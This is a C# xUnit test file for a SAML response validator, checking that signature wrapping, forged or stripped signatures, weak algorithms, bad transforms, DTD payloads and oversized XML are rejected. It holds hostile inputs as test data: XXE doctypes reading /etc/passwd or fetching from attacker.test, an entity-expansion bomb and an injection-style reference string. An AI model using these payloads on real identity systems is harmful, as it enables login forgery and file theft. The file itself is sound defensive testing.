using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Xml;
using Portal.Core.Federation.Saml;

namespace Portal.Tests.Core.Federation.Saml;

/// <summary>SECURITY-CASES group A: XML parsing and SignedXml core (cases 1–19).</summary>
public partial class SamlResponseValidatorTests
{
    [Fact]
    public async Task ValidateAsync_Case01_SignaturesStripped_IsSigMissing()
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        TestIdp.SignResponse(document, TestIdp.Idp);
        XswMutator.MakeEvil(TestIdp.Assertion(document));
        foreach (var signature in document.GetElementsByTagName("Signature", SamlNs.Dsig).Cast<XmlNode>().ToList())
        {
            Remove(signature);
        }

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigMissing);
    }

    [Theory]
    [InlineData(KeyInfoContent.Certificate)] // case 2
    [InlineData(KeyInfoContent.RsaKeyValue)] // case 3
    public async Task ValidateAsync_Case02And03_ResignedWithEmbeddedEvilKey_IsSigUntrustedKey(KeyInfoContent keyInfo)
    {
        // Arrange
        var document = TestIdp.CreateResponse(nameId: XswMutator.EvilNameId);
        TestIdp.SignAssertion(document, TestIdp.Evil, new SignOptions { KeyInfo = keyInfo });

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigUntrustedKey);
    }

    [Fact]
    public async Task ValidateAsync_Case04_CaIssuedCertificateInKeyInfo_IsSigUntrustedKey()
    {
        // Arrange: a leaf issued by a CA; chain trust is never consulted, only pinned certificates count.
        using var caKey = RSA.Create(2048);
        var caRequest = new CertificateRequest("CN=Test Root", caKey, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        caRequest.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, true));
        using var ca = caRequest.CreateSelfSigned(TestIdp.Now.AddYears(-1), TestIdp.Now.AddYears(5));
        using var leafKey = RSA.Create(2048);
        var leafRequest = new CertificateRequest("CN=idp.test", leafKey, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        using var leafPublic = leafRequest.Create(ca, TestIdp.Now.AddDays(-1), TestIdp.Now.AddYears(1), [1, 2, 3, 4]);
        using var leaf = leafPublic.CopyWithPrivateKey(leafKey);
        var document = TestIdp.CreateResponse(nameId: XswMutator.EvilNameId);
        TestIdp.SignAssertion(document, leaf);

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigUntrustedKey);
    }

    [Fact]
    public async Task ValidateAsync_Case05_SignedByOtherConfiguredIdpKey_IsSigUntrustedKey()
    {
        // Arrange: keys are selected from the IdP the caller names, never from any trusted key.
        var document = TestIdp.CreateResponse();
        TestIdp.SignAssertion(document, TestIdp.Idp2);

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigUntrustedKey);
    }

    [Fact]
    public async Task ValidateAsync_Case05_SignedByIdpKeyButIssuerIsOtherIdp_IsIssuer()
    {
        // Arrange
        var document = Signed(d =>
        {
            foreach (var issuer in d.GetElementsByTagName("Issuer", SamlNs.Assertion).Cast<XmlElement>())
            {
                issuer.InnerText = TestIdp.Idp2EntityId;
            }
        });

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.Issuer);
    }

    public static TheoryData<string> Case06SignatureValues => new() { "flip", "AAAA", "!!!!", "unknown-method" };

    [Theory]
    [MemberData(nameof(Case06SignatureValues))]
    public async Task ValidateAsync_Case06_BrokenSignatureValueOrMethod_IsSigInvalid(string variant)
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var value = TestIdp.First(document, "SignatureValue", SamlNs.Dsig);
        switch (variant)
        {
            case "flip":
                var bytes = Convert.FromBase64String(value.InnerText);
                bytes[10] ^= 0x01;
                value.InnerText = Convert.ToBase64String(bytes);
                break;
            case "unknown-method":
                SetAttribute(document, "SignatureMethod", "Algorithm", "urn:unknown", SamlNs.Dsig);
                break;
            default:
                value.InnerText = variant;
                break;
        }

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigInvalid);
    }

    [Fact]
    public async Task ValidateAsync_Case07_SignatureCopiedIntoForgedSecondAssertion_IsSigRefNotParent()
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var original = TestIdp.Assertion(document);
        var forged = (XmlElement)original.CloneNode(true);
        forged.SetAttribute("ID", "_a2");
        XswMutator.MakeEvil(forged);
        document.DocumentElement!.AppendChild(forged);

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigRefNotParent);
    }

    [Fact]
    public async Task ValidateAsync_Case07_SignedAssertionHiddenInExtensions_IsSigRefNotParent()
    {
        // Arrange: only _a2 (with _a1's signature copied in) is an Assertion child; _a1 sits in Extensions.
        var document = TestIdp.CreateSignedResponse();
        var original = TestIdp.Assertion(document);
        var forged = (XmlElement)original.CloneNode(true);
        forged.SetAttribute("ID", "_a2");
        XswMutator.MakeEvil(forged);
        var extensions = Element(document, "<samlp:Extensions/>");
        document.DocumentElement!.InsertBefore(extensions, TestIdp.First(document, "Status", SamlNs.Protocol));
        Remove(original);
        extensions.AppendChild(original);
        document.DocumentElement.AppendChild(forged);

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigRefNotParent);
    }

    [Fact]
    public async Task ValidateAsync_Case08a_LowercaseIdAttribute_IsSigIdAttr()
    {
        // Arrange: SignedXml's default lookup accepts id="_a1", so the IdP-side signature is valid.
        var document = TestIdp.CreateResponse();
        var assertion = TestIdp.Assertion(document);
        assertion.RemoveAttribute("ID");
        assertion.SetAttribute("id", "_a1");
        TestIdp.SignAssertion(document, TestIdp.Idp);

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigIdAttr);
    }

    [Fact]
    public async Task ValidateAsync_Case08b_SameValueUnderIdAttributeOfSibling_IsSigDupId()
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var sibling = document.CreateElement("a");
        sibling.SetAttribute("Id", "_a1");
        TestIdp.First(document, "Status", SamlNs.Protocol).AppendChild(sibling);

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigDupId);
    }

    [Theory]
    [InlineData("before")]
    [InlineData("extensions")]
    [InlineData("object")]
    public async Task ValidateAsync_Case09_DuplicateAssertionId_IsSigDupId(string where)
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var original = TestIdp.Assertion(document);
        var clone = (XmlElement)original.CloneNode(true);
        Remove(clone.ChildNodes.OfType<XmlElement>().Single(e => e.LocalName == "Signature"));
        XswMutator.MakeEvil(clone);
        switch (where)
        {
            case "before":
                document.DocumentElement!.InsertBefore(clone, original);
                break;
            case "extensions":
                var extensions = Element(document, "<samlp:Extensions/>");
                extensions.AppendChild(clone);
                document.DocumentElement!.InsertBefore(extensions, TestIdp.First(document, "Status", SamlNs.Protocol));
                break;
            default:
                var obj = document.CreateElement("ds", "Object", SamlNs.Dsig);
                obj.AppendChild(clone);
                AssertionSignature(document).AppendChild(obj);
                break;
        }

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigDupId);
    }

    [Theory]
    [InlineData("")]
    [InlineData("#xpointer(/)")]
    [InlineData("#xpointer(id('_a1'))")]
    [InlineData(null)]
    [InlineData("https://idp.test/x")]
    [InlineData("file:///etc/passwd")]
    public async Task ValidateAsync_Case10_NonSamlReferenceUriForms_IsSigRefForm(string? uri)
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var reference = TestIdp.First(document, "Reference", SamlNs.Dsig);
        if (uri is null)
        {
            reference.RemoveAttribute("URI");
        }
        else
        {
            reference.SetAttribute("URI", uri);
        }

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigRefForm);
    }

    [Fact]
    public async Task ValidateAsync_Case10_EmptyReferenceSignedByIdp_IsSigRefForm()
    {
        // Arrange: a genuinely valid whole-document signature (URI="").
        var document = TestIdp.CreateResponse();
        TestIdp.SignAssertion(document, TestIdp.Idp, new SignOptions { ReferenceUri = string.Empty });

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigRefForm);
    }

    [Theory]
    [InlineData("#_a1' or '1'='1")]
    [InlineData("#urn:a")]
    public async Task ValidateAsync_Case11_ReferenceIdNotNcName_IsSigRefForm(string uri)
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        TestIdp.First(document, "Reference", SamlNs.Dsig).SetAttribute("URI", uri);

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigRefForm);
    }

    [Fact]
    public async Task ValidateAsync_Case12_TwoReferences_IsSigStructure()
    {
        // Arrange
        var document = TestIdp.CreateResponse();
        TestIdp.First(document, "Status", SamlNs.Protocol).SetAttribute("ID", "_x");
        TestIdp.SignAssertion(document, TestIdp.Idp, new SignOptions { ExtraReferenceId = "_x" });

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigStructure);
    }

    [Theory]
    [InlineData("two-signedinfo")]
    [InlineData("wrapped-signedinfo")]
    [InlineData("second-signature")]
    public async Task ValidateAsync_Case13_ExtraSignedInfoOrSignature_IsSigStructure(string variant)
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var signature = AssertionSignature(document);
        var signedInfo = TestIdp.First(signature, "SignedInfo", SamlNs.Dsig);
        switch (variant)
        {
            case "two-signedinfo":
                signature.InsertAfter(signedInfo.CloneNode(true), signedInfo);
                break;
            case "wrapped-signedinfo":
                var wrapper = document.CreateElement("WRAPPER");
                wrapper.AppendChild(signedInfo.CloneNode(true));
                signature.InsertBefore(wrapper, signedInfo);
                break;
            default:
                signature.ParentNode!.InsertAfter(signature.CloneNode(true), signature);
                break;
        }

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigStructure);
    }

    [Theory]
    [InlineData("extensions")]
    [InlineData("object")]
    public async Task ValidateAsync_Case14_DigestValueSmuggledOutsideSignedInfo_IsSigInvalid(string where)
    {
        // Arrange: forge the assertion and place the forged digest where a document-wide XPath would find it first.
        var document = TestIdp.CreateSignedResponse();
        XswMutator.MakeEvil(TestIdp.Assertion(document));
        var forgedDigest = Convert.ToBase64String(SHA256.HashData(Encoding.UTF8.GetBytes(TestIdp.Assertion(document).OuterXml)));
        var smuggled = Element(document, $"<ds:DigestValue>{forgedDigest}</ds:DigestValue>");
        if (where == "extensions")
        {
            var extensions = Element(document, "<samlp:Extensions/>");
            extensions.AppendChild(smuggled);
            document.DocumentElement!.InsertBefore(extensions, TestIdp.First(document, "Status", SamlNs.Protocol));
        }
        else
        {
            var obj = document.CreateElement("ds", "Object", SamlNs.Dsig);
            obj.AppendChild(smuggled);
            AssertionSignature(document).AppendChild(obj);
        }

        // Act
        var result = await ValidateAsync(document);

        // Assert: the Object variant is refused structurally before the digest is even compared.
        AssertRejected(result, where == "extensions" ? SamlFailureReason.SigInvalid : SamlFailureReason.SigStructure);
    }

    [Fact]
    public async Task ValidateAsync_Case15_CommentInsideDigestValue_IsSigInvalid()
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        XswMutator.MakeEvil(TestIdp.Assertion(document));
        var digest = TestIdp.First(document, "DigestValue", SamlNs.Dsig);
        var forged = Convert.ToBase64String(SHA256.HashData(Encoding.UTF8.GetBytes("forged")));
        digest.PrependChild(document.CreateComment(forged));

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigInvalid);
    }

    [Fact]
    public async Task ValidateAsync_Case16a_RsaSha1Signature_IsSigAlg()
    {
        // Arrange
        var document = TestIdp.CreateResponse();
        TestIdp.SignAssertion(document, TestIdp.Idp, new SignOptions { SignatureMethod = "http://www.w3.org/2000/09/xmldsig#rsa-sha1" });

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigAlg);
    }

    [Fact]
    public async Task ValidateAsync_Case16b_Sha1Digest_IsSigAlg()
    {
        // Arrange
        var document = TestIdp.CreateResponse();
        TestIdp.SignAssertion(document, TestIdp.Idp, new SignOptions { DigestMethod = "http://www.w3.org/2000/09/xmldsig#sha1" });

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigAlg);
    }

    [Theory]
    [InlineData("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", null)]
    [InlineData("http://www.w3.org/2000/09/xmldsig#hmac-sha1", "8")]
    public async Task ValidateAsync_Case16cd_HmacSignatureMethods_IsSigAlg(string method, string? outputLength)
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var signatureMethod = TestIdp.First(document, "SignatureMethod", SamlNs.Dsig);
        signatureMethod.SetAttribute("Algorithm", method);
        if (outputLength is not null)
        {
            signatureMethod.AppendChild(Element(document, $"<ds:HMACOutputLength>{outputLength}</ds:HMACOutputLength>"));
        }

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigAlg);
    }

    public static TheoryData<string> Case17TransformSets => new()
    {
        "enveloped,c14n", "enveloped,base64", "enveloped,decrypt", "enveloped,xpath", "xslt", "enveloped,exc,exc", "enveloped,exc,exc-comments",
    };

    [Theory]
    [MemberData(nameof(Case17TransformSets))]
    public async Task ValidateAsync_Case17_TransformsOutsideAllowList_IsSigTransform(string set)
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var transforms = TestIdp.First(document, "Transforms", SamlNs.Dsig);
        transforms.RemoveAll();
        foreach (var name in set.Split(','))
        {
            transforms.AppendChild(Element(document, name switch
            {
                "enveloped" => """<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>""",
                "c14n" => """<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>""",
                "base64" => """<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>""",
                "decrypt" => """<ds:Transform Algorithm="http://www.w3.org/2002/07/decrypt#XML"/>""",
                "xpath" => """<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>""",
                "xslt" => """<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/></ds:Transform>""",
                "exc" => """<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>""",
                _ => """<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#WithComments"/>""",
            }));
        }

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.SigTransform);
    }

    [Theory]
    [InlineData("<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>")]
    [InlineData("<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>")]
    [InlineData("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.test/dtd\"> %p;]>")]
    public async Task ValidateAsync_Case18_Doctype_IsXmlDtd(string doctype)
    {
        // Arrange
        var xml = doctype + TestIdp.CreateSignedResponse().OuterXml;
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(xml));

        // Act
        var result = await new SamlResponseValidator().ValidateAsync(encoded, CreateParameters(), CancellationToken.None);

        // Assert
        AssertRejected(result, SamlFailureReason.XmlDtd);
    }

    [Fact]
    public async Task ValidateAsync_Case19a_FiveMegabyteMessage_IsXmlTooLarge()
    {
        // Arrange
        var encoded = Convert.ToBase64String(new byte[5 * 1024 * 1024]);

        // Act
        var result = await new SamlResponseValidator().ValidateAsync(encoded, CreateParameters(), CancellationToken.None);

        // Assert
        AssertRejected(result, SamlFailureReason.XmlTooLarge);
    }

    [Fact]
    public async Task ValidateAsync_Case19a_DecodedJustOverCap_IsXmlTooLarge()
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var parameters = CreateParameters();
        var tight = new SamlValidationParameters
        {
            IdentityProvider = parameters.IdentityProvider,
            ExpectedAudiences = parameters.ExpectedAudiences,
            ExpectedDestinations = parameters.ExpectedDestinations,
            ReplayCache = _replayCache,
            MaxMessageBytes = Encoding.UTF8.GetByteCount(document.OuterXml) - 1,
        };

        // Act / Assert
        await AssertRejectedAsync(document, SamlFailureReason.XmlTooLarge, tight);
    }

    [Fact]
    public async Task ValidateAsync_Case19c_HundredThousandNestedElements_IsXmlMalformed()
    {
        // Arrange
        var document = TestIdp.CreateSignedResponse();
        var nested = new StringBuilder();
        for (var i = 0; i < 100_000; i++)
        {
            nested.Append("<e>");
        }

        for (var i = 0; i < 100_000; i++)
        {
            nested.Append("</e>");
        }

        var xml = document.OuterXml.Replace("<samlp:Status>", "<samlp:Extensions>" + nested + "</samlp:Extensions><samlp:Status>", StringComparison.Ordinal);
        var parameters = CreateParameters();
        var large = new SamlValidationParameters
        {
            IdentityProvider = parameters.IdentityProvider,
            ExpectedAudiences = parameters.ExpectedAudiences,
            ExpectedDestinations = parameters.ExpectedDestinations,
            ReplayCache = _replayCache,
            MaxMessageBytes = 4 * 1024 * 1024,
        };

        // Act
        var result = await new SamlResponseValidator().ValidateAsync(Convert.ToBase64String(Encoding.UTF8.GetBytes(xml)), large, CancellationToken.None);

        // Assert
        AssertRejected(result, SamlFailureReason.XmlMalformed);
    }
}
